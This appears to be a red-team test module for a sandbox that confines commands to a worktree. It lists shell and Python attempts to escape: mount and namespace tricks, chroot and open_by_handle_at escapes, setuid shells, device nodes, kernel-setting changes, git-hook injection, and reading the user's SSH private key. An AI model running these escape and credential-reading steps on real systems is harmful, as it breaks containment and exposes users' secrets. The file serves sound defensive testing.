"""Class 1: rights inside the walls. Mounts, namespaces, devices, other processes, the kernel's own stores."""

import ctypes
from pathlib import Path

from tests.redteam.attack import Attack
from tests.redteam.attempt import ALL, WALLS, Attempt, Shell
from tests.redteam.proofs import checkout_changed, made, seen

READ = "cat @HOME@/private.txt @HOME@/.ssh/id_ed25519"
WRITE = "echo taken > @REPO@/README.md; echo taken > @OUTSIDE@/taken"
OUT = (checkout_changed, made("@OUTSIDE@/taken"))


def python(code: str) -> str:
    """A shell line that runs Python from a here-document."""
    return f"python3 - <<'CODE'\n{code}\nCODE"


def setuid_left(attack: Attack) -> str:
    """A file in the worktree that runs with the rights of its owner."""
    found = [path for path in attack.worktree.rglob("*") if path.is_file() and path.stat().st_mode & 0o6000]
    return f"{found[0]} is setuid, mode {found[0].stat().st_mode:o}, of uid {found[0].stat().st_uid}" if found else ""


def device_left(attack: Attack) -> str:
    """A device node in the worktree that the owner of the machine did not make."""
    found = [path for path in attack.worktree.rglob("*") if path.is_block_device() or path.is_char_device()]
    return f"{found[0]} is a device" if found else ""


def _sysctl_before(attack: Attack) -> None:
    attack.kept["ratio"] = Path("/proc/sys/vm/overcommit_ratio").read_text()


def sysctl_changed(attack: Attack) -> str:
    """A setting of the kernel has another value; it is put back."""
    place = Path("/proc/sys/vm/overcommit_ratio")
    now, before = place.read_text(), attack.kept["ratio"]
    if now == before:
        return ""
    place.write_text(before)
    return f"{place} became {now.strip()}"


def cgroup_made(attack: Attack) -> str:
    """A control group of the attacker's on the host; it is removed."""
    found = list(Path("/sys/fs/cgroup").glob(f"**/{attack.world.token}"))
    for path in found:
        path.rmdir()
    return f"{found[0]} was made" if found else ""


HANDLE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("body", ctypes.c_ubyte * 128)]
given = bytes.fromhex("@HANDLE@")
handle = Handle(len(given), @KIND@, (ctypes.c_ubyte * 128)(*given))
for place in (".", "/", "/usr"):
    mount = os.open(place, os.O_RDONLY)
    found = libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY)
    if found >= 0:
        print(os.read(found, 4096).decode())
"""


async def open_by_handle(attack: Attack) -> None:
    """Open a hidden file by its inode, as the program called shocker did."""

    class Handle(ctypes.Structure):
        _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("body", ctypes.c_ubyte * 128))

    handle, mount = Handle(128), ctypes.c_int()
    path = str(attack.world.home / "private.txt").encode()
    done = ctypes.CDLL(None).name_to_handle_at(-100, path, ctypes.byref(handle), ctypes.byref(mount), 0)
    body = bytes(handle.body[: handle.size]).hex() if done == 0 else "0200000000000000"
    code = HANDLE.replace("@HANDLE@", body).replace("@KIND@", str(handle.kind if done == 0 else 1))
    await attack.shell(python(code))


def shell(name: str, title: str, script: str, *proofs, policies=WALLS, **more) -> Attempt:  # type: ignore[no-untyped-def]
    """An attempt of one command."""
    return Attempt(name, 1, title, (Shell(script),), proofs or (*OUT, seen()), policies, **more)


UNSHARE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
uid, gid = os.getuid(), os.getgid()
print("unshare", libc.unshare(0x10000000 | 0x00020000))
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
    try:
        open(f"/proc/self/{name}", "w").write(text)
    except OSError as error:
        print(name, error)
for place in (b"@HOME@", b"@REPO@", b"@REPO@/.rolecall", b"/tmp", b"/run"):
    print("umount", libc.umount2(place, 2), ctypes.get_errno())
libc.mount(b"none", b"/", None, 0x20 | 0x1000, None)
print("remount", libc.mount(b"none", b"/", None, 0x20, None), ctypes.get_errno())
os.system("cat @HOME@/private.txt; echo taken > @REPO@/README.md; echo taken > @OUTSIDE@/taken")
"""

WRITABLE = """
import os
for top in ("/proc", "/sys", "/dev"):
    for folder, folders, names in os.walk(top):
        if folder == "/proc":
            folders[:] = [name for name in folders if not name.isdigit() and name not in ("self", "thread-self")]
        if folder == "/dev":
            folders[:] = [name for name in folders if name not in ("pts", "shm", "fd")]
        for name in names:
            path = os.path.join(folder, name)
            try:
                plain = os.major(os.stat(path).st_rdev) in (1, 5) and os.stat(path).st_rdev != os.makedev(1, 1)
            except OSError:
                continue
            if path.startswith("/proc/pressure"):
                continue  # a trigger of whoever opens it
            if not plain and not os.path.islink(path) and os.access(path, os.W_OK):
                print("@TOKEN@-may-write", path)
"""

ATTEMPTS = (
    shell(
        "remount-checkout",
        "Remount the user's checkout to be writable and write it",
        f"for at in / @REPO@ @HOME@; do mount -o remount,rw,bind $at; mount -o remount,rw $at; done; {WRITE}",
    ),
    shell(
        "unmount-home",
        "Unmount the cover of home and read a private key",
        f"for at in @REPO@/.rolecall @REPO@ @HOME@; do umount -l $at; umount $at; done; {READ}",
    ),
    shell(
        "move-home-cover",
        "Move the cover of home away and read what lies under it",
        f"mkdir -p aside; mount --make-rprivate /; mount --move @HOME@ $PWD/aside; {READ}",
    ),
    shell(
        "bind-over",
        "Bind the root of the machine into the worktree and look from there",
        "mkdir -p r; mount --rbind / r; umount -l r@HOME@; cat r@HOME@/private.txt; echo t > r@OUTSIDE@/taken",
    ),
    shell(
        "nested-namespace",
        "Make a user namespace of one's own and take the mounts apart in it",
        f"unshare -rm sh -c 'umount -l @HOME@; umount -l @REPO@; mount -o remount,rw /; {READ}; {WRITE}'",
    ),
    shell("nested-by-syscall", "The same by the system call, without the program unshare", python(UNSHARE)),
    shell(
        "nested-bubblewrap",
        "Start bubblewrap inside bubblewrap with everything bound writable",
        f"bwrap --dev-bind / / --proc /proc sh -c 'umount -l @HOME@; {READ}; {WRITE}'",
    ),
    shell(
        "setuid-shell",
        "Leave a shell in the worktree that runs as the user for whoever starts it",
        "cp /bin/sh s; chmod 4755 s; cp /bin/sh t; chmod 2755 t; "
        + python("import os; os.chmod('s', 0o6755); f = os.open('u', os.O_CREAT, 0o6755); os.fchmod(f, 0o6755)"),
        setuid_left,
    ),
    shell(
        "setuid-on-create",
        "Make a file that is setuid from the start, by open and mknod",
        python(
            "import os\nos.umask(0)\nos.close(os.open('n', os.O_CREAT | os.O_WRONLY, 0o6755))\n"
            "try:\n    os.mknod('m', 0o106755)\nexcept OSError as e:\n    print(e)"
        ),
        setuid_left,
    ),
    shell(
        "device-node",
        "Make the node of the disk and read it",
        "for n in 8 252 253 254 259; do mknod d$n b $n 0; head -c 512 d$n | od | head -2; done; mknod z c 1 1",
        device_left,
    ),
    shell(
        "proc-root",
        "Go through the root of every process seen",
        "for at in /proc/[0-9]*/root /proc/[0-9]*/cwd /proc/self/task/*/root; do "
        "cat $at@HOME@/private.txt $at/../../../../private.txt; echo t > $at@OUTSIDE@/taken; done",
    ),
    shell(
        "chroot",
        "Change root over an open folder, the old way out",
        python(
            "import os\nos.mkdir('c')\nhere = os.open('/', os.O_RDONLY)\ntry:\n    os.chroot('c')\n    os.fchdir(here)\n"
            "    for _ in range(64):\n        os.chdir('..')\n    os.chroot('.')\nexcept OSError as e:\n    print(e)\n"
            "for path in ('@HOME@/private.txt',):\n    try:\n        print(open(path).read())\n"
            "    except OSError as e:\n        print(e)"
        ),
    ),
    Attempt(
        "open-by-handle", 1, "Open a hidden file by its inode instead of its name", (open_by_handle,), (seen(),), WALLS
    ),
    shell(
        "kernel-setting",
        "Change a setting of the kernel",
        "mount -o remount,rw /proc/sys; mkdir -p p; mount -t proc proc p; mount -o remount,rw p/sys; "
        "for at in /proc/sys p/sys; do echo 51 > $at/vm/overcommit_ratio; done",
        sysctl_changed,
        setup=_sysctl_before,
    ),
    shell(
        "kernel-files", "Find any file of the kernel's that may be written", python(WRITABLE), seen("@TOKEN@-may-write")
    ),
    shell(
        "control-group",
        "Make a control group on the host",
        "mount -o remount,rw /sys/fs/cgroup; mkdir -p g; mount -t cgroup2 none g; mkdir /sys/fs/cgroup/@TOKEN@ g/@TOKEN@",
        cgroup_made,
    ),
    shell(
        "clock",
        "Set the clock of the machine",
        'date -s "@$(date +%s)" > /dev/null && echo clock was @CANARY@ && echo set'.replace("@CANARY@", "@TOKEN@-set"),
        seen("@TOKEN@-set\n"),
    ),
    shell(
        "priority",
        "Run before everything else on the machine",
        "nice -n -15 sh -c 'test $(nice) -lt 0 && echo @TOKEN@-first'; "
        "chrt -f 50 sh -c 'chrt -p $$ | grep -q FIFO && echo @TOKEN@-first'",
        seen("@TOKEN@-first"),
    ),
    shell(
        "oom-shield",
        "Be the last that the kernel ends when memory runs out",
        "echo -900 > /proc/self/oom_score_adj; test $(cat /proc/self/oom_score_adj) -lt 0 && echo @TOKEN@-shielded",
        seen("@TOKEN@-shielded"),
    ),
    shell(
        "write-everywhere",
        "Write wherever the machine lets everybody write",
        "for at in /tmp /var/tmp /dev/shm /run /run/lock /var/lock /mnt /media /dev/mqueue @HOME@ @REPO@ @OUTSIDE@; do "
        "echo t > $at/@TOKEN@; done",
        *(
            made(f"{at}/@TOKEN@")
            for at in (
                "/tmp",
                "/var/tmp",
                "/dev/shm",
                "/run",
                "/run/lock",
                "/mnt",
                "/media",
                "@HOME@",
                "@REPO@",
                "@OUTSIDE@",
            )
        ),
        policies=ALL,
    ),
    shell(
        "read-home", "Read the user's private files", f"{READ}; grep -rs canary @HOME@ --include=*.txt", policies=ALL
    ),
    shell("write-checkout", "Write into the user's checkout", WRITE, *OUT, policies=ALL),
    shell(
        "hard-link",
        "Link a file of the checkout into the worktree and write it there",
        "for f in @REPO@/README.md @HOME@/private.txt; do ln $f linked && cat linked && echo taken > linked; rm -f linked; "
        "done",
        policies=ALL,
    ),
    shell(
        "write-git",
        "Write hooks and configuration into the repository's git folder",
        "echo '#!/bin/sh' > @REPO@/.git/hooks/post-commit; git config core.pager 'sh -c id'; "
        "git -C @REPO@ config core.fsmonitor 'sh -c id'; git update-ref refs/heads/main HEAD~0 || true; "
        "git branch taken-@TOKEN@; git -C @REPO@ branch taken-@TOKEN@",
        policies=ALL,
    ),
    shell(
        "leave-by-descriptor",
        "Use folders that were left open",
        python(
            "import os\nfor name in os.listdir('/proc/self/fd'):\n    try:\n        fd = int(name)\n"
            "        for path in ('private.txt', '../private.txt', '../../private.txt', '@HOME@/private.txt',\n"
            "                     '../../../../private.txt'):\n            try:\n"
            "                print(os.read(os.open(path.lstrip('/') if path[0] == '/' else path, os.O_RDONLY, dir_fd=fd), 999))\n"
            "            except OSError:\n                pass\n    except OSError:\n        pass"
        ),
    ),
    shell(
        "worktree-link-swap",
        "Replace the worktree by a link to home, and read on there",
        "cd ..; for w in */; do w=${w%/}; mv $w aside-$w && ln -s @HOME@ $w; done; cat */private.txt",
    ),
    shell(
        "forge-git-file",
        "Point the worktree's .git elsewhere",
        "rm -f .git; mv .git aside; printf 'gitdir: evil\\n' > .git; test -d evil || git init -q --bare evil; "
        "test \"$(cat .git)\" = 'gitdir: evil' && echo @TOKEN@-forged",
        seen("@TOKEN@-forged"),
    ),
)
